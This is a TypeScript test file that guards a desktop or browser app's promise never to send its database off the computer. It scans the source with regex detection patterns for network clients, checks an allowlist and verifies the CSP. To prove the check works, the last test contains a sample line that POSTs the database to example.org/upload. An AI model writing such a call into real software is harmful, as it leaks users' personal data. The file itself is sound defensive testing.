/**
 * Personal data (docs/reliability.md §8): the database is never sent anywhere. No code opens a
 * network connection except browser mode's own server and the check of a team server's address
 * the user typed (it asks that server's name); the renderer talks only to its own origin, and the
 * Content-Security-Policy forbids connecting anywhere else.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { CONTENT_SECURITY_POLICY } from '../../shared/csp.ts';

const ROOT = new URL('../../', import.meta.url).pathname;
const SOURCES = ['main', 'db', 'shared', 'renderer/src', 'bin'];

/** Ways code could send data off this computer. */
const NETWORK_CLIENTS: [string, RegExp][] = [
  // A call, or fetch handed on to be called (a default parameter).
  ['fetch', /\bfetch\s*\(|=\s*fetch\b/],
  ['http(s) client', /\bhttps?\.(request|get)\s*\(|from ['"]node:https['"]|require\(['"](node:)?https['"]\)/],
  ['raw sockets', /from ['"]node:(net|tls|dgram)['"]|require\(['"](node:)?(net|tls|dgram)['"]\)/],
  ['XMLHttpRequest', /\bXMLHttpRequest\b/],
  ['WebSocket', /\bWebSocket\b/],
  ['sendBeacon', /\bsendBeacon\b/],
  ['EventSource', /\bnew\s+EventSource\b/],
  ['Electron net', /\bnet\.request\b|\bnet\.fetch\b/],
];

/** Each use that is allowed, and why. */
const ALLOWED: Record<string, string> = {
  'renderer/src/app/api.ts fetch': 'POST /api/<method> to its own origin (a relative URL) in browser mode',
  'renderer/src/app/jobs.ts fetch': 'GET /api/events (job progress) from its own origin in browser mode',
  'renderer/src/app/team.ts fetch': 'POST /auth/sign-out to its own origin on a team server',
  'main/team-address.ts fetch': 'GET <the address the user typed>/api/team-info when they connect to a team: it sends nothing',
  'main/server.ts http(s) client': 'node:https for createServer only: a team server given a certificate answers over TLS; it requests nothing',
};

function files(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) out.push(...files(path));
    else if (/\.(ts|tsx|js|mjs|cjs)$/.test(name)) out.push(path);
  }
  return out;
}

describe('nothing is sent off this computer', () => {
  it('has no network client in the app’s code but the renderer’s same-origin API calls', () => {
    const found: string[] = [];
    for (const dir of SOURCES) {
      for (const file of files(join(ROOT, dir))) {
        // Type-only imports (the server's AddressInfo) cannot send anything.
        const text = readFileSync(file, 'utf8').replace(/^\s*import type .*$/gm, '');
        for (const [what, re] of NETWORK_CLIENTS) if (re.test(text)) found.push(`${relative(ROOT, file)} ${what}`);
      }
    }
    expect(found.filter((f) => !(f in ALLOWED))).toEqual([]);
  });

  it('calls only relative /api/ (or, on a team server, /auth/) addresses where the renderer fetches', () => {
    const fetching = Object.keys(ALLOWED).filter((k) => k.startsWith('renderer/') && k.endsWith(' fetch'));
    for (const file of fetching.map((k) => k.split(' ')[0])) {
      const text = readFileSync(join(ROOT, file), 'utf8');
      const calls = [...text.matchAll(/\bfetch\s*\(\s*([^,)]+)/g)].map((m) => m[1].trim());
      expect(calls.length, file).toBeGreaterThan(0);
      for (const target of calls) {
        // Each address the call may take (a literal, or each side of a choice between literals).
        const addresses = target.match(/[`'"][^`'"]*[`'"]/g) ?? [];
        expect(addresses.length, `${file}: ${target}`).toBeGreaterThan(0);
        for (const address of addresses) expect(address, file).toMatch(/^[`'"]\/(api|auth)\//);
      }
    }
  });

  it('lets pages connect only to their own origin (CSP connect-src)', () => {
    const directives = Object.fromEntries(
      CONTENT_SECURITY_POLICY.split(';')
        .map((d) => d.trim().split(/\s+/))
        .map(([k, ...v]) => [k, v]),
    );
    expect(directives['connect-src']).toEqual(["'self'"]);
    expect(directives['default-src']).toEqual(["'self'"]);
    expect(directives['form-action']).toEqual(["'none'"]);
  });

  it('catches a network call if one is added (the check can fail)', () => {
    const sample = "const r = await fetch('https://example.org/upload', { method: 'POST', body: db });";
    expect(NETWORK_CLIENTS.some(([, re]) => re.test(sample))).toBe(true);
  });
});
